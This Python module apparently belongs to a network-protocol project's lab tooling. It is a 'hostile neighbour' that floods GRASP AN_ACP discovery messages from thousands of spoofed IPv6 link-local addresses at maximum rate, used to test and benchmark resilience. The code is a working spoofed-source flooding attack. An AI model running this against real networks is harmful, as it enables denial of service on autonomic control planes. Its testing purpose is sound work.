"""A hostile DULL neighbour for tests and benches: AN_ACP floods from thousands of spoofed
link-local source addresses, as fast as Python can send them (issue 15).

    python3 -m acp_openwrt.lab.spoofer eth0 [--addresses 4096] [--seconds 10] [--rate 0]
                                            [--ttl-ms 0] [--one-source] [--base fe80::a:0]
                                            [--port 7017]

Run it inside the attacker's namespace; SIGTERM ends it early (it still reports). Each
datagram really leaves from its own source address: one UDP socket with IPV6_FREEBIND, the
source set per datagram with IPV6_PKTINFO (no address is added to the interface, so nothing
answers ND for the fakes). Each flood is ``[M_FLOOD, sid, fe80::N, ttl, [["AN_ACP", 4, 1,
"IKEv2"], [O_IPv6_LOCATOR, fe80::N, 17, 500]]]`` with a fresh session id, so no receiver can
drop a repeat as a duplicate. ``--one-source`` is the issue's first form: every flood from the
interface's own address, the locator (and initiator) cycling through the fakes. ``--port``
other than GRASP's 7017 makes the same traffic a decoy that no receiver reads: the load the
attacker and the link put on a one-machine lab, without the attack (the benches' baseline).
Prints one JSON line at the end: sent, errors, seconds, datagrams per second.
"""
from __future__ import annotations

import argparse
import ipaddress
import json
import signal
import socket
import struct
import sys
import time

import cbor2

from ..grasp import constants as c
from .topology import SpecBuilder, TopologySpec

IPV6_FREEBIND = 78  # linux/in6.h; not in Python's socket module
_SID_FIRST = 1 << 24  # session ids from here on encode as 0x1a + 4 bytes: fixed offsets


def flood_topology() -> TopologySpec:
    """The benches' flooded link: v, b, d and x on one bridge (sw); c and e behind v's other
    links (eth1, eth2)."""
    builder = SpecBuilder().node("sw", bridges=["br0"], switch=True)
    for name in ("v", "b", "d", "x", "c", "e"):
        builder.node(name)
    for port, name in enumerate(("v", "b", "d", "x"), 1):
        builder.link(name, "sw", ifname_a="eth0", ifname_b=f"p{port}", bridge_b="br0")
    builder.link("v", "c", ifname_a="eth1", ifname_b="eth0")
    return builder.link("v", "e", ifname_a="eth2", ifname_b="eth0").build()


def fake_address(base: ipaddress.IPv6Address, n: int) -> bytes:
    return (base + n).packed


def flood_template(ttl_ms: int) -> tuple[bytearray, int, tuple[int, ...]]:
    """The flood bytes for one fake, and where its session id and its address sit in them."""
    marker = bytes(range(0xA0, 0xB0))
    sid = 0x7EADBEEF
    data = bytearray(cbor2.dumps([c.M_FLOOD, sid, marker, ttl_ms,
                                  [["AN_ACP", c.F_SYNCH, 1, "IKEv2"],
                                   [c.O_IPv6_LOCATOR, marker, c.IPPROTO_UDP, 500]]]))
    sid_at = data.index(struct.pack(">I", sid))
    first = data.index(marker)
    return data, sid_at, (first, data.index(marker, first + 1))


def run(ifname: str, addresses: int, seconds: float, rate: float, ttl_ms: int,
        one_source: bool, base: str, port: int = c.GRASP_LISTEN_PORT) -> dict[str, float]:
    index = socket.if_nametoindex(ifname)
    sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    sock.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)  # beside a GRASP on this link
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    sock.bind(("::", c.GRASP_LISTEN_PORT, 0, index))
    dest = (c.ALL_GRASP_NEIGHBORS_V6, port, 0, index)
    start_address = ipaddress.IPv6Address(base)
    fakes = [fake_address(start_address, n) for n in range(1, addresses + 1)]
    tail = struct.pack("@I", index)
    ancillary = [[(socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, fake + tail)] for fake in fakes]
    template, sid_at, address_at = flood_template(ttl_ms)
    sent = errors = 0
    sid = _SID_FIRST
    t0 = time.perf_counter()
    deadline = [t0 + seconds]
    signal.signal(signal.SIGTERM, lambda *_: deadline.__setitem__(0, 0.0))  # stop, then report
    while True:
        now = time.perf_counter()
        if now >= deadline[0]:
            break
        due = 1024 if rate <= 0 else min(int((now - t0) * rate) + 1 - sent, 1024)
        for _ in range(due):
            k = sent % len(fakes)
            fake = fakes[k]
            for at in address_at:
                template[at:at + 16] = fake
            sid = sid + 1 if sid < 0xFFFFFFFF else _SID_FIRST
            struct.pack_into(">I", template, sid_at, sid)
            try:
                if one_source:
                    sock.sendto(template, dest)
                else:
                    sock.sendmsg([template], ancillary[k], 0, dest)
            except OSError:  # ENOBUFS at full rate: the datagram was not sent
                errors += 1
            sent += 1
        if rate > 0:
            time.sleep(0.001)
    elapsed = time.perf_counter() - t0
    sock.close()
    return {"sent": sent, "errors": errors, "seconds": round(elapsed, 3),
            "per_s": round((sent - errors) / elapsed, 1) if elapsed else 0.0}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("ifname")
    parser.add_argument("--addresses", type=int, default=4096, help="distinct fakes (default 4096)")
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--rate", type=float, default=0.0, help="floods/s; 0: as fast as possible")
    parser.add_argument("--ttl-ms", type=int, default=0, help="flood ttl (0: 'forever' in GRASP)")
    parser.add_argument("--one-source", action="store_true",
                        help="send from the interface's own address; only the locator is fake")
    parser.add_argument("--base", default="fe80::a:0", help="fakes are base+1, base+2, ...")
    parser.add_argument("--port", type=int, default=c.GRASP_LISTEN_PORT,
                        help="destination UDP port (not 7017: a decoy nobody reads)")
    args = parser.parse_args(argv)
    print(json.dumps(run(args.ifname, args.addresses, args.seconds, args.rate, args.ttl_ms,
                         args.one_source, args.base, args.port)), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
